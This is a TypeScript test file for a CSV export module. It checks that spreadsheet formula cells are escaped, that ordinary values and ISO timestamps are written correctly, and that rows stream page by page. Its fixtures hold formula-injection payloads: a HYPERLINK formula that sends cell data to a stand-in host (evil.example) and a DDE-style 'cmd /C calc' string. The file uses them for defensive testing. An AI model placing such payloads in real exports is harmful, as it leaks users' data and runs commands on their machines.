import { describe, expect, it } from 'vitest'
import { csvStream, csvText, type CsvColumn, type CsvValue } from './csv'

/**
 * The one CSV writer: cells a spreadsheet would run as a formula come back as text, everything else
 * as it was, and rows are read page by page as the client reads.
 */

const HYPERLINK = '=HYPERLINK("http://evil.example/?leak="&A2,"click")'

describe('csvText', () => {
  it('neutralises cells that a spreadsheet would run as a formula', () => {
    expect(csvText([[HYPERLINK]])).toBe(`"'=HYPERLINK(""http://evil.example/?leak=""&A2,""click"")"\r\n`)
    expect(csvText([["+1+cmd|' /C calc'!A0", '-2+3', '@SUM(A1:A9)', '\t=1+1', '\r=1+1', '＝1+1']])).toBe(
      `'+1+cmd|' /C calc'!A0,'-2+3,'@SUM(A1:A9),'\t=1+1,"'\r=1+1",'＝1+1\r\n`,
    )
  })

  it('leaves ordinary values as they are: numbers (negative too), codes, mails, quotes, line breaks', () => {
    const cells: CsvValue[] = ['FG10001', 'M7/053', 'ops@plant.example', 'a-b', 'say "no", twice', 'two\nlines', -12.5, 0, 1234567890123n, true, null, undefined, '']
    expect(csvText([cells])).toBe('FG10001,M7/053,ops@plant.example,a-b,"say ""no"", twice","two\nlines",-12.5,0,1234567890123,true,,,\r\n')
  })

  it('writes times as ISO 8601 in UTC, not epoch milliseconds', () => {
    expect(csvText([[new Date(Date.UTC(2026, 11, 5, 1, 2, 3, 456))]])).toBe('2026-12-05T01:02:03.456Z\r\n')
  })
})

describe('csvStream', () => {
  const columns: CsvColumn<{ n: number; name: string }>[] = [
    { header: 'n', value: (r) => r.n },
    { header: 'name', value: (r) => r.name },
  ]

  it('streams a header, the pages as they are pulled, and the note the source ends with', async () => {
    let pagesRead = 0
    async function* pages(): AsyncGenerator<{ n: number; name: string }[], string> {
      for (let p = 0; p < 5; p++) {
        pagesRead++
        yield p === 2 ? [] : [{ n: p, name: p === 1 ? HYPERLINK : `row ${p}` }]
      }
      return '# cut at 4 rows'
    }
    const reader = (await csvStream(columns, pages())).getReader()
    const decoder = new TextDecoder()
    expect(decoder.decode((await reader.read()).value)).toBe('n,name\r\n')
    // Only the first page is read ahead (so a failing query fails before the first byte): streaming.
    expect(pagesRead).toBe(1)
    expect(decoder.decode((await reader.read()).value)).toBe('0,row 0\r\n')
    let rest = ''
    for (let chunk = await reader.read(); !chunk.done; chunk = await reader.read()) rest += decoder.decode(chunk.value)
    expect(rest).toBe(`1,"'=HYPERLINK(""http://evil.example/?leak=""&A2,""click"")"\r\n3,row 3\r\n4,row 4\r\n# cut at 4 rows\r\n`)
    expect(pagesRead).toBe(5)
  })

  it('fails before the first byte when the first page cannot be read', async () => {
    async function* failing(): AsyncGenerator<never[], void> {
      throw new Error('invalid byte sequence for encoding "UTF8": 0x00')
    }
    await expect(csvStream(columns, failing())).rejects.toThrow(/invalid byte sequence/)
  })
})
